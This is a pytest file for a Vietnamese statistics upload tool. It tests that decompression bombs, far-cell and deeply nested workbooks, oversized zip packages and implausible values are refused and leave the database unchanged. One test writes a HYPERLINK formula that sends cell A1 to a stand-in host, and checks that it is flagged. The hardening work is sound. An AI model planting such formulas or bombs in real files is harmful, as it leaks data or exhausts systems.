"""Issue 10, findings 1, 4, 6, 7: hostile uploads are refused with a Vietnamese message, fast,
by the real command line and the dashboard, and the database does not change.

The files are built by tests/make_fixtures.py from a real template or plan (no binaries in git):
a template with one cell at XFD1048576 (the reader used to try 512 GB and abort the process)
or at ZZ200000 (5.6 GB), a workbook holding 380 MB of XML, a 1.4 MB .docx holding 380 MB of
XML, 10 MB of random Vietnamese text; and values no report can hold (1e308 % growth, 10^30
workers), formula cells, error cells, a merged "Số thực hiện / Tình trạng" header.
"""
from __future__ import annotations

import io
import re
import subprocess
import sys
import tomllib
from pathlib import Path

import openpyxl
import pytest

from chitieu import auth, settings
from chitieu.errors import UserError
from chitieu.store import close_db, open_db, query_df
from chitieu.store import users as user_store
from loaders.actuals.excel_template import template_bytes
from loaders.actuals.upload import confirm, dry_run
from tests import make_fixtures as fx

ROOT = Path(__file__).resolve().parent.parent
QN, TK = "gso_pre2025:522", "gso_pre2025:21172"
TABLES = ("plans", "targets", "uploads", "actuals", "audit_log")
ENGLISH = re.compile(r"\b(official|estimate|preliminary|None|error|warning)\b", re.I)


# ---- fixtures ------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def files(tmp_path_factory) -> dict[str, Path]:
    """The hostile files, written once for the module."""
    d = tmp_path_factory.mktemp("hostile")
    db = d / "template.duckdb"
    con = open_db(db)
    fx.seed_db(con)
    template = template_bytes(con, [QN], 2022)
    close_db(db)
    out = {"template": template}
    for name, data in [("xfd.xlsx", fx.with_far_cell(template)),
                       ("zz200000.xlsx", fx.with_far_cell(template, "ZZ200000")),
                       ("xlsx_bomb.xlsx", fx.xlsx_bomb(template)),
                       ("docx_bomb.docx", fx.docx_bomb()),
                       ("random.txt", fx.random_vietnamese_text(10))]:
        (d / name).write_bytes(data)
        out[name] = d / name
    return out


def seeded_db(path: Path) -> Path:
    con = open_db(path)
    fx.seed_db(con)
    close_db(path)
    return path


def snapshot(db: Path) -> dict:
    con = open_db(db)
    snap = {t: query_df(con, f"SELECT * FROM {t}").to_csv(index=False) for t in TABLES}
    close_db(db)
    return snap


def cli(*args: str) -> subprocess.CompletedProcess:
    """The real command line, as an operator runs it."""
    return subprocess.run([sys.executable, "-m", "loaders", *args], cwd=ROOT, capture_output=True, text=True,
                          timeout=300)


# ---- finding 1: far cells; finding 4: bombs (the real CLI) --------------------------------------

@pytest.mark.parametrize("name, code, words", [
    ("xfd.xlsx", "sheet-too-large", "dòng 1.048.576"),
    ("zz200000.xlsx", "sheet-too-large", "dòng 200.000"),
    ("xlsx_bomb.xlsx", "file-too-large", "khi giải nén thành 380 MB"),
])
def test_cli_refuses_workbooks_that_would_exhaust_the_reader(files, tmp_path, name, code, words):
    db = seeded_db(tmp_path / "t.duckdb")
    before = snapshot(db)
    for extra in (["--dry-run"], []):
        run = cli("import-actuals", str(files[name]), "--db", str(db), *extra)
        assert run.returncode == 1, (run.returncode, run.stdout[-500:], run.stderr[-500:])
        assert code in run.stdout and words in run.stdout, run.stdout
        assert "Không lưu gì" in run.stderr and "Traceback" not in run.stderr
    assert snapshot(db) == before


def test_a_huge_declared_dimension_is_refused(files, tmp_path):
    part = fx.sheet_part(files["template"])
    data = fx._rewrite_zip(files["template"], {part: lambda b: re.sub(
        rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', b)})
    db = seeded_db(tmp_path / "t.duckdb")
    con = open_db(db)
    preview = dry_run(con, data, "khai_bao.xlsx")
    assert preview.codes() == [(0, "file", "sheet-too-large")]
    assert "khai báo vùng dữ liệu A1:XFD1048576" in preview.file_issues[0].message_vi


def test_the_reader_never_runs_in_the_calling_process(files, tmp_path, monkeypatch):
    """dry_run hands the bytes to a child process: a reader that aborts (as calamine does on a
    failed 512 GB allocation) takes only the child down."""
    from chitieu import isolation
    db = seeded_db(tmp_path / "t.duckdb")
    con = open_db(db)
    seen = []
    real_run = isolation.run

    def spy(target, *args, **kw):
        seen.append(target)
        return real_run(target, *args, **kw)
    monkeypatch.setattr(isolation, "run", spy)
    preview = dry_run(con, files["xfd.xlsx"].read_bytes(), "xfd.xlsx")
    assert seen == ["loaders.actuals.excel_read:read_workbook"]
    assert preview.codes() == [(0, "file", "sheet-too-large")]


@pytest.mark.parametrize("target, args, code", [
    ("os:abort", (), "file-too-demanding"),                  # how calamine dies on a failed allocation
    ("builtins:bytearray", (2 * 1024 ** 3,), "file-too-demanding"),   # MemoryError under RLIMIT_AS
    ("builtins:sum", (range(10 ** 12),), "file-too-demanding"),       # a runaway loop: CPU limit
    ("time:sleep", (60,), "file-too-demanding"),                      # stuck: wall-clock timeout
    ("builtins:int", ("x",), "parse-failed"),                          # an unexpected exception: no traceback
])
def test_isolation_turns_every_way_a_reader_can_die_into_a_message(target, args, code):
    from chitieu import isolation
    lim = isolation.Limits(memory_mb=400, cpu_seconds=1, wall=3)
    with pytest.raises(UserError) as e:
        isolation.run(target, *args, shown="bao_cao.xlsx", lim=lim)
    assert e.value.code == code and "bao_cao.xlsx" in e.value.vi
    assert "Traceback" not in e.value.vi and not ENGLISH.search(e.value.vi)


def test_docx_bomb_is_refused_before_any_reader(files):
    from loaders.plans.isolated import read_plan_upload
    data = files["docx_bomb.docx"].read_bytes()
    assert len(data) < 2 * 1024 * 1024
    with pytest.raises(UserError) as e:
        read_plan_upload(data, "ke_hoach.docx")
    assert e.value.code == "file-too-large" and "giải nén thành 38" in e.value.vi


def test_random_text_gives_a_message_not_thousands_of_targets(files):
    from loaders.plans.isolated import read_plan_upload
    text = files["random.txt"].read_bytes()
    with pytest.raises(UserError) as e:                     # 10 MB: refused before extraction
        read_plan_upload(text, "ke_hoach.txt")
    assert e.value.code == "plan-too-long" and "ký tự" in e.value.vi
    small = fx.random_vietnamese_text(0.15, seed=3)          # under the length bound: extracted, then judged
    with pytest.raises(UserError) as e:
        read_plan_upload(small, "ke_hoach.txt")
    assert e.value.code == "not-a-plan" and "mức khác nhau" in e.value.vi, e.value.vi
    assert "Không có gì được lưu" in e.value.vi
    with pytest.raises(UserError) as e:                     # larger: more targets than any plan could state
        read_plan_upload(fx.random_vietnamese_text(0.9, seed=4), "ke_hoach.txt")
    assert e.value.code in ("too-many-targets", "not-a-plan"), e.value.vi


def test_a_real_plan_still_reads_through_the_isolated_path():
    from loaders.plans.isolated import read_plan_upload
    path = sorted((ROOT / "data" / "plans").glob("*.txt"))[0]
    plan = read_plan_upload(path.read_bytes(), path.name)
    assert plan.locality.name and 10 <= len(plan.targets) <= 60


def test_xml_nested_too_deep_is_refused(files):
    from loaders.plans.isolated import read_plan_upload
    deep = "<w:p>" * 5000 + "</w:p>" * 5000
    base = fx.docx_bytes(["Kế hoạch năm 2025", "PLACEHOLDER"])
    data = fx._rewrite_zip(base, {"word/document.xml": lambda b: b.replace(
        b"<w:t>PLACEHOLDER</w:t>", f"<w:t>x</w:t>{deep}".encode())})
    with pytest.raises(UserError) as e:
        read_plan_upload(data, "sau.docx")
    assert e.value.code == "xml-too-deep" and "lồng nhau" in e.value.vi


# ---- finding 6: values ---------------------------------------------------------------------------

def _row_of(data: bytes, indicator: str, scope: str = "") -> int:
    ws = openpyxl.load_workbook(io.BytesIO(data))["Số liệu"]
    header = {c.value: c.column for c in ws[4]}
    for row in ws.iter_rows(min_row=5):
        if row[header["Mã chỉ tiêu"] - 1].value == indicator and (row[header["Phạm vi"] - 1].value or "") == scope:
            return row[0].row
    raise AssertionError(indicator)


@pytest.fixture
def vdb(tmp_path):
    db = seeded_db(tmp_path / "v.duckdb")
    con = open_db(db)
    yield db, con, template_bytes(con, [QN, TK], 2022)
    close_db(db)


def test_values_no_report_can_hold_are_errors_with_the_reason(vdb):
    db, con, t = vdb
    data = fx.fill_template(t, {
        ("economic_growth", ""): {"period": "6 tháng", "value": 1e308, "standing": "Chính thức"},
        ("jobs_created", ""): {"period": "6 tháng", "value": 1e30},
        ("new_poor_households", ""): {"period": "6 tháng", "value": 5e8},
        ("waste_collection_rate", "phường"): {"period": "6 tháng", "value": 120},
        ("health_insurance_coverage", ""): {"period": "6 tháng", "value": -5},
        ("social_investment", ""): {"period": "6 tháng", "value": 3000},
    })
    p = dry_run(con, data, "cuc_tri.xlsx")
    by = {r.indicator: r for r in p.rows}
    assert [i.code for i in by["economic_growth"].issues] == ["implausible-value"]
    assert [i.code for i in by["jobs_created"].issues] == ["implausible-value"]
    assert "10^30" in by["jobs_created"].issues[0].message_vi
    assert [i.code for i in by["new_poor_households"].issues] == ["implausible-count"]
    assert "dân số cả nước" in by["new_poor_households"].issues[0].message_vi
    assert [i.code for i in by["waste_collection_rate"].issues] == ["percent-over-100"]
    assert [i.code for i in by["health_insurance_coverage"].issues] == ["negative-value"]
    assert by["social_investment"].outcome == "ok"
    assert by["economic_growth"].value is None and not p.ok
    for issue in p.issues:
        assert not ENGLISH.search(issue.message_vi), issue.message_vi


def test_a_count_above_the_communes_population_order_is_a_warning(vdb):
    _db, con, t = vdb
    p = dry_run(con, fx.fill_template(t, {("jobs_created", ""): {"period": "6 tháng", "value": 2_000_000}}), "c.xlsx")
    assert [(i.code, i.severity) for i in p.rows[0].issues] == [("count-over-population", "warning")]
    assert "xã" in p.rows[0].issues[0].message_vi and p.ok


@pytest.mark.parametrize("value, code, severity", [(150, "growth-over-100", "warning"),
                                                   (-150, "growth-out-of-range", "error"),
                                                   (5000, "growth-out-of-range", "error")])
def test_growth_beyond_plus_minus_100_percent(vdb, value, code, severity):
    _db, con, t = vdb
    p = dry_run(con, fx.fill_template(t, {("economic_growth", ""): {"period": "6 tháng", "value": value}}), "g.xlsx")
    assert [(i.code, i.severity) for i in p.rows[0].issues] == [(code, severity)]
    assert "%" in p.rows[0].issues[0].message_vi


def test_cli_rejects_extreme_values_and_status_is_unchanged(vdb, tmp_path):
    db, con, t = vdb
    close_db(db)
    path = tmp_path / "cuc_tri.xlsx"
    path.write_bytes(fx.fill_template(t, {("economic_growth", ""): {"period": "FY", "value": 1e308}}))
    status_before = cli("status", "--locality", QN, "--year", "2022", "--db", str(db))
    before = snapshot(db)
    run = cli("import-actuals", str(path), "--db", str(db))
    assert run.returncode == 1 and "implausible-value" in run.stdout and "10^308" in run.stdout
    assert snapshot(db) == before
    assert cli("status", "--locality", QN, "--year", "2022", "--db", str(db)).stdout == status_before.stdout


def test_formula_cell_is_a_formula_error_not_its_cached_value(vdb):
    _db, con, t = vdb
    data = fx.fill_template(t, {("economic_growth", ""): {"period": "6 tháng", "value": 7}})
    ref = f"{fx.header_column(data)}{_row_of(data, 'economic_growth')}"
    data = fx.with_cell_xml(data, ref, f'<c r="{ref}"><f>HYPERLINK("http://x.invalid/?"&amp;A1,"12")</f><v>12</v></c>')
    p = dry_run(con, data, "cong_thuc.xlsx")
    assert [(r.indicator, r.value) for r in p.rows] == [("economic_growth", None)]
    (issue,) = p.rows[0].issues
    assert issue.code == "formula-cell" and f"Ô {ref}" in issue.message_vi and "=HYPERLINK(" in issue.message_vi
    assert not p.ok


def test_error_cell_beside_a_valid_row_is_an_error_row_never_dropped(vdb):
    _db, con, t = vdb
    data = fx.fill_template(t, {("economic_growth", ""): {"period": "6 tháng", "value": 7},
                                ("social_investment", ""): {"period": "6 tháng", "value": 1}})
    ref = f"{fx.header_column(data)}{_row_of(data, 'social_investment')}"
    data = fx.with_cell_xml(data, ref, f'<c r="{ref}" t="e"><f>A1/0</f><v>#DIV/0!</v></c>')
    p = dry_run(con, data, "loi.xlsx")
    rows = {r.indicator: r for r in p.rows}
    assert set(rows) == {"economic_growth", "social_investment"}
    assert rows["economic_growth"].outcome == "ok"
    assert [i.code for i in rows["social_investment"].issues] == ["error-cell"]
    assert "#DIV/0!" in rows["social_investment"].issues[0].message_vi and not p.ok


def _merge_value_and_standing(data: bytes) -> bytes:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb["Số liệu"]
    cols = {c.value: c for c in ws[4]}
    value, standing = cols["Số thực hiện"], cols["Tình trạng số liệu"]
    assert standing.column == value.column + 1
    value.value, standing.value = "Số thực hiện / Tình trạng", None
    ws.merge_cells(start_row=4, start_column=value.column, end_row=4, end_column=standing.column)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_merged_value_and_standing_header_keeps_the_standing(vdb):
    _db, con, t = vdb
    data = _merge_value_and_standing(fx.fill_template(t, {("economic_growth", ""): {
        "period": "6 tháng", "value": 7, "standing": "Chính thức"}}))
    p = dry_run(con, data, "gop_o.xlsx")
    assert [(r.indicator, r.value, r.standing, r.outcome) for r in p.rows] == [("economic_growth", 7.0, "official", "ok")]


def test_an_estimate_replacing_an_official_figure_warns_in_vietnamese_only(vdb):
    _db, con, t = vdb
    confirm(con, dry_run(con, fx.fill_template(t, {("economic_growth", ""): {
        "period": "6 tháng", "value": 7, "standing": "Chính thức"}}), "1.xlsx"), "a")
    p = dry_run(con, fx.fill_template(t, {("economic_growth", ""): {
        "period": "6 tháng", "value": 8, "standing": "Ước tính"}}), "2.xlsx")
    (issue,) = p.rows[0].issues
    assert issue.code == "standing-downgrade" and "«Ước tính»" in issue.message_vi and "«Chính thức»" in issue.message_vi
    assert not ENGLISH.search(issue.message_vi), issue.message_vi


# ---- finding 7: one upload limit -----------------------------------------------------------------

def test_one_upload_limit_in_config_setting_and_messages(monkeypatch):
    monkeypatch.delenv("CHITIEU_UPLOAD_MAX_MB", raising=False)
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["server"]["maxUploadSize"] == 20
    assert settings.upload_max_bytes() == 20 * 1024 * 1024
    from chitieu.filetypes import check_upload
    with pytest.raises(UserError) as e:
        check_upload(b"x" * (20 * 1024 * 1024 + 1), "lon.txt", ("text",))
    assert "20 MB" in e.value.vi


# ---- the dashboard (AppTest): message, no exception, nothing stored -----------------------------

@pytest.fixture
def app_db(tmp_path):
    db = seeded_db(tmp_path / "app.duckdb")
    con = open_db(db)
    user_store.add_user(con, "quantri", "admin", auth.hash_password("mat-khau-dai-1"), actor="t")
    close_db(db)
    return db


def page(db: Path, monkeypatch, path: str):
    from streamlit.testing.v1 import AppTest
    monkeypatch.setenv("CHITIEU_DB", str(db))
    at = AppTest.from_file(str(ROOT / "dashboard.py"), default_timeout=120)
    at.session_state["chitieu_user"] = "quantri"
    at.run()
    at.switch_page(path)
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


@pytest.mark.parametrize("path, key, name, words", [
    ("views/actuals.py", "actuals_file", "xfd.xlsx", "dòng 1.048.576"),
    ("views/actuals.py", "actuals_file", "xlsx_bomb.xlsx", "giải nén thành 380 MB"),
    ("views/plans.py", "plan_file", "docx_bomb.docx", "giải nén thành 38"),
    ("views/plans.py", "plan_file", "random.txt", "ký tự"),
])
def test_dashboard_shows_the_refusal_and_stores_nothing(files, app_db, monkeypatch, path, key, name, words):
    monkeypatch.setattr(auth, "BCRYPT_ROUNDS", 4)
    before = snapshot(app_db)
    at = page(app_db, monkeypatch, path)
    at.file_uploader(key=key).upload(name, files[name].read_bytes(), "application/octet-stream").run()
    assert not at.exception, [e.value for e in at.exception]
    shown = " ".join(e.value for e in at.error)
    assert words in shown, shown
    assert snapshot(app_db) == before


def test_a_package_with_too_many_parts_is_refused_before_its_directory_is_parsed():
    import zipfile
    from loaders.plans.isolated import read_plan_upload
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
        for i in range(2500):
            z.writestr(f"p/{i}", b"")
    from chitieu.store import memory_db
    con = memory_db()
    fx.seed_db(con)
    for read in (lambda d: read_plan_upload(d, "nhieu.docx"), lambda d: dry_run(con, d, "nhieu.xlsx")):
        try:
            result = read(buf.getvalue())
            issues = [(i.code, i.message_vi) for i in result.file_issues]
        except UserError as exc:
            issues = [(exc.code, exc.vi)]
        assert issues and issues[0][0] == "file-too-large" and "quá nhiều phần" in issues[0][1], issues
